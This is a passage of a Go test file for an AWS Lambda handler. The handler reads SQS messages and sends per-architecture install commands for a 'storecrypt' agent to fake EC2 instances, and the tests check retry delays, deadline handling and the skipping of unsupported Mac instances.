		want time.Duration
	}{
		{ev.Records[1], 15 * time.Second},
		{ev.Records[2], time.Minute},
	} {
		if got := w.InFlight[tc.rec.ReceiptHandle]; got == nil || *got != tc.want {
			t.Errorf("%s: visible again after %v, want %v", tc.rec.MessageId, got, tc.want)
		}
	}
	if !strings.Contains(e.logs.String(), "ReceiptHandleIsInvalid") {
		t.Errorf("the refused change is not logged:\n%s", e.logs)
	}
}

func TestLaunchRetryDelay(t *testing.T) {
	var got []time.Duration
	for n := 1; n <= 8; n++ {
		got = append(got, contract.LaunchRetryDelay(n))
	}
	want := []time.Duration{15 * time.Second, 30 * time.Second, time.Minute, 2 * time.Minute, 4 * time.Minute, 5 * time.Minute, 5 * time.Minute, 5 * time.Minute}
	if !slices.Equal(got, want) {
		t.Errorf("delays %v, want %v", got, want)
	}
	var total time.Duration
	for n := 1; n < contract.LaunchMaxReceives; n++ {
		total += contract.LaunchRetryDelay(n)
	}
	// The redrive policy keeps a late agent's message about as long as the 10 receives
	// 6 minutes apart did, before the DLQ.
	if total < 45*time.Minute {
		t.Errorf("%d receives span %v before the DLQ", contract.LaunchMaxReceives, total)
	}
}

// TestSendsNothingItCannotFinish: with less than the reserve left before the invocation's
// deadline, no command is sent and every message goes back to the queue, instead of
// Lambda ending the invocation with commands sent and nothing recorded.
func TestSendsNothingItCannotFinish(t *testing.T) {
	for _, tc := range []struct {
		name  string
		left  time.Duration
		sends bool
	}{
		{"time enough", 10 * time.Minute, true},
		{"nearly up", 5 * time.Second, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount(t)
			var bodies []string
			for n := range 60 {
				id := fmt.Sprintf("i-%017d", n+1)
				w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
				bodies = append(bodies, running(id))
			}
			e := newEnv(t, w)
			ctx, cancel := context.WithTimeout(context.Background(), tc.left)
			defer cancel()
			resp, err := e.h.HandleSQS(ctx, sqsBatch(bodies...))
			if err != nil {
				t.Fatal(err)
			}
			sent := len(e.commanded())
			if tc.sends && (sent != 60 || len(resp.BatchItemFailures) != 0) || !tc.sends && (sent != 0 || len(resp.BatchItemFailures) != 60) {
				t.Errorf("%d instances sent a command, %d messages handed back", sent, len(resp.BatchItemFailures))
			}
		})
	}
}

// TestOneCommandPerArchitecture: a batch of x86_64 and Graviton instances gets one
// command per architecture, each with the Architecture that makes the document download
// only that agent; an instance of an architecture storecrypt has no agent for (a Mac) is
// sent nothing.
func TestOneCommandPerArchitecture(t *testing.T) {
	w := fakeaws.NewAccount(t)
	types := map[string]string{"i-00000000000000001": "i4i.large", "i-00000000000000002": "im4gn.large", "i-00000000000000003": "i4i.large", "i-00000000000000004": "i4g.large"}
	var bodies []string
	for _, id := range []string{"i-00000000000000001", "i-00000000000000002", "i-00000000000000003", "i-00000000000000004"} {
		w.AddInstance(id, types[id], fakeaws.Profile(fakeaws.KeyUser), nil, launched)
		bodies = append(bodies, running(id))
	}
	w.AddInstance("i-00000000000000005", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
	w.With(func() { w.Instances["i-00000000000000005"].Architecture = "x86_64_mac" })
	bodies = append(bodies, running("i-00000000000000005"))
	e := newEnv(t, w)
	if failed := e.handle(t, bodies...); len(failed) != 0 {
		t.Fatalf("handed back: %v", failed)
	}
	got := map[string][]string{}
	w.With(func() {
		for _, c := range w.Commands[e.before:] {
			arch := c.Parameters[document.ArchitectureParameter]
			if len(arch) != 1 {
				t.Errorf("command %s: Architecture %v", c.ID, arch)
				continue
			}
			got[arch[0]] = append(got[arch[0]], c.InstanceIDs...)
		}
	})
	want := map[string][]string{"amd64": {"i-00000000000000001", "i-00000000000000003"}, "arm64": {"i-00000000000000002", "i-00000000000000004"}}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("commands by architecture %v, want %v", got, want)
	}
	if !strings.Contains(e.logs.String(), "no agent for this instance's architecture") {
		t.Errorf("the Mac instance's drop is not logged:\n%s", e.logs.String())
	}
}
